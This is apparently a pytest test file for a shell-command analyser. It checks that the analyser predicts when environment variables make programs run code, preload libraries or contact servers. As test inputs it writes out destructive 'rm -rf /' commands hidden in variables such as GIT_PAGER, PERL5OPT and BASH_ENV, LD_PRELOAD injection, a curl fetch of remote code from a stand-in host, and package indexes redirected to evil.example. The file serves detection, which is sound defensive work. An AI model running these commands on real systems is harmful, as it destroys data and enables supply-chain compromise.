"""Variables that make programs run code: which programs, which code, and what stays harmless."""

from __future__ import annotations

import pytest

from prempti_otel.analysis.catalogue.environment import load, loaded, variables
from prempti_otel.analysis.reading import Word
from prempti_otel.analysis.shell.state import MOST_VARIABLES
from tests.support.predictions import PROJECT, predicted

RUN = [
    "GIT_SSH_COMMAND='rm -rf /' git fetch",
    "GIT_EDITOR='sh -c \"rm -rf /\"' git commit",
    "GIT_EXTERNAL_DIFF='rm -rf /' git diff",
    "PAGER='rm -rf / #' man ls",
    "EDITOR='rm -rf /' crontab -e",
    "VISUAL='rm -rf /' sudo -E visudo",
    "export GIT_PAGER='rm -rf /'; git log",
    "GIT_PAGER='rm -rf /'; export GIT_PAGER; git log",
    "declare -x GIT_PAGER='rm -rf /'; git log",
    "env GIT_PAGER='rm -rf /' git log",
    "sudo GIT_PAGER='rm -rf /' git log",
    "if true; then export GIT_PAGER='rm -rf /'; fi; git log",
    "GIT_PAGER='rm -rf /' ./release",
    "export PAGER='rm -rf /'; bash -c 'git log'",
    "PROMPT_COMMAND='rm -rf /' bash -i",
    "PERL5OPT='-Mbase;system(\"rm -rf /\")' perl x.pl",
    "JAVA_TOOL_OPTIONS='-XX:OnOutOfMemoryError=\"rm -rf /\"' java -jar a.jar",
    "LESSOPEN='|rm -rf / %s' less a",
    "echo 'rm -rf /' > e; BASH_ENV=e bash build",
    "echo 'rm -rf /' > e; ENV=./e sh -i",
]


@pytest.mark.parametrize("code", RUN)
def test_code_in_a_variable_is_walked_with_the_program_that_reads_it(code: str) -> None:
    assert "/" in predicted(code).touched("delete")


LOADED = [
    ("LD_PRELOAD=./a.so ls", ["a.so"]),
    ("LD_PRELOAD='./a.so ./b.so' ls", ["a.so", "b.so"]),
    ("export DYLD_INSERT_LIBRARIES=./a.dylib; ls; ls", ["a.dylib"]),
    ("BASH_ENV=./e make", ["e"]),
    ("PYTHONSTARTUP=s.py python3", ["s.py"]),
    ("PYTHONPATH=src:lib pytest", ["src", "lib"]),
    ("LD_LIBRARY_PATH=lib make", ["lib"]),
    ("NODE_OPTIONS='--max-old-space-size=4096 --require ./a.js -r ./b.js' npm test", ["a.js", "b.js"]),
    ("RUBYOPT='-W0 -r./a' rake", ["a"]),
    ("JAVA_TOOL_OPTIONS=-javaagent:a/b.jar=x java -version", ["a/b.jar"]),
]


@pytest.mark.parametrize(("code", "files"), LOADED, ids=[code for code, _ in LOADED])
def test_what_a_variable_makes_a_program_load_is_run(code: str, files: list[str]) -> None:
    assert predicted(code).touched("exec") == [f"{PROJECT}/{file}" for file in files]


HARMLESS = [
    "GIT_PAGER=cat git log",
    "PAGER=less git diff",
    "EDITOR=true git commit --amend --no-edit",
    "GIT_EDITOR=: git rebase --continue",
    "EDITOR=${EDITOR:-vim} crontab -l",
    "PAGER=$MY_PAGER git log",
    "PYTHONPATH=src python -m pytest",
    "PYTHONPATH=src:$PYTHONPATH pytest",
    "LD_LIBRARY_PATH=$HOME/lib:$LD_LIBRARY_PATH make",
    "NODE_OPTIONS=--max-old-space-size=8192 npm run build",
    "ENV=production make deploy",
    "ENV=test sh run-tests",
    "CC=clang CXX=clang++ make -j4",
    "GIT_SSH_COMMAND='ssh -p 2222' git fetch",
    "LD_PRELOAD= ls",
    "export GIT_PAGER='rm -rf /'",
    "echo GIT_PAGER='rm -rf /'",
    "(export GIT_PAGER='rm -rf /'); git log",
    "GIT_PAGER='rm -rf /' ls; git log",
    "export GIT_PAGER='rm -rf /'; unset GIT_PAGER; git log",
]


@pytest.mark.parametrize("code", HARMLESS)
def test_harmless_values_and_programs_that_do_not_read_them_do_nothing(code: str) -> None:
    prediction = predicted(code)

    assert prediction.effects <= {"rewrites_history"}
    assert prediction.touched("delete") == []
    assert prediction.dynamic == []


def test_code_that_cannot_be_known_is_dynamic() -> None:
    prediction = predicted('GIT_EDITOR="$(curl -s http://e.example/x)" git commit')

    assert prediction.dynamic == ["git"]
    assert "runs_remote_code" in prediction.effects


def test_each_value_is_looked_at_once() -> None:
    assert predicted("export PAGER=less; git log; git diff; git show").names.count("less") == 1


def test_a_program_reads_a_variable_under_each_of_its_versions() -> None:
    (use,) = variables()["PYTHONSTARTUP"]

    assert use.is_read_by("python3.12", known=True)
    assert not use.is_read_by("git", known=True)
    assert use.is_read_by("some-tool", known=False)


def test_a_long_value_is_bounded() -> None:
    (use,) = variables()["LD_PRELOAD"]

    assert len(loaded(use, Word("./a " * 100_000)).files) == 16


@pytest.mark.parametrize("row", ["{names: A, role: nothing}", "{names: A, role: code}", "{names: A, role: 'exec:sh'}"])
def test_a_role_that_is_not_one_is_refused(row: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    table = tmp_path_factory.mktemp("table") / "environment.yaml"
    table.write_text(f"- {row}\n")

    with pytest.raises(ValueError, match="unknown role"):
        load(table)


FETCHED = [
    ("PIP_INDEX_URL=https://evil.example/simple pip install x", ["evil.example"]),
    ("export UV_INDEX='corp=https://evil.example/simple'; uv sync", ["evil.example"]),
    ("env npm_config_registry=http://evil.example/ npm ci", ["evil.example"]),
    ("GOPROXY='https://a.example,https://b.example|direct' go get x", ["a.example", "b.example"]),
    ("export PIP_INDEX_URL=https://evil.example; pip list; pip install x", ["evil.example", "evil.example"]),
    ("PIP_INDEX_URL=https://evil.example ls", []),
    ("GOPROXY=direct go build ./...", []),
    ("PIP_INDEX_URL=$INDEX pip install x", []),
]


@pytest.mark.parametrize(("code", "hosts"), FETCHED)
def test_a_server_that_a_variable_names_is_talked_to_by_the_programs_that_read_it(code: str, hosts: list[str]) -> None:
    named = [
        event.values["net.host"] for event in predicted(code).hosts if str(event.values["net.host"]).endswith("example")
    ]
    assert named == hosts


INHERITED: list[tuple[str, str, dict[str, tuple[str, ...]]]] = [
    ("A=1 make", "make", {"A": ("1",)}),
    ("export A=1 B='x y'; make", "make", {"A": ("1",), "B": ("x y",)}),
    ("env -i A=1 make", "make", {"A": ("1",)}),
    ("sudo A=1 make", "make", {"A": ("1",)}),
    ("A=1; A+=2; sh -c 'B=$A make'", "make", {"A": ("12",), "B": ("12",)}),
    ("A=1 true; make", "make", {}),
    ("(A=1); make", "make", {}),
    ("HOME=/tmp make", "make", {"HOME": ("/tmp",)}),
    ("A=$(date) make", "make", {"A": ("$(date)",)}),
    ("test -e x && A=1 || A=2; make", "make", {"A": ("1", "2")}),
    ("A=1; ssh host B=2 make", "make", {"B": ("2",)}),
    ("set -a; A=1; make", "make", {"A": ("1",)}),
    ("for A in 1; do make; done", "make", {"A": ("1",)}),
]


@pytest.mark.parametrize(("code", "name", "inherited"), INHERITED)
def test_a_process_is_told_what_variables_the_call_sets_for_it(
    code: str, name: str, inherited: dict[str, tuple[str, ...]]
) -> None:
    assert (predicted(code).process(name).get("proc.env") or {}) == inherited


def test_of_very_many_variables_the_latest_are_told_and_the_rest_is_unknown() -> None:
    setting = "; ".join(f"V{number}={number}" for number in range(400))
    prediction = predicted(f"{setting}; make")
    environment = prediction.process("make").get("proc.env")
    assert isinstance(environment, dict)
    assert len(environment) == MOST_VARIABLES
    assert environment["V399"] == ("399",)
    assert prediction.processes[-1].get("proc.dynamic") is True
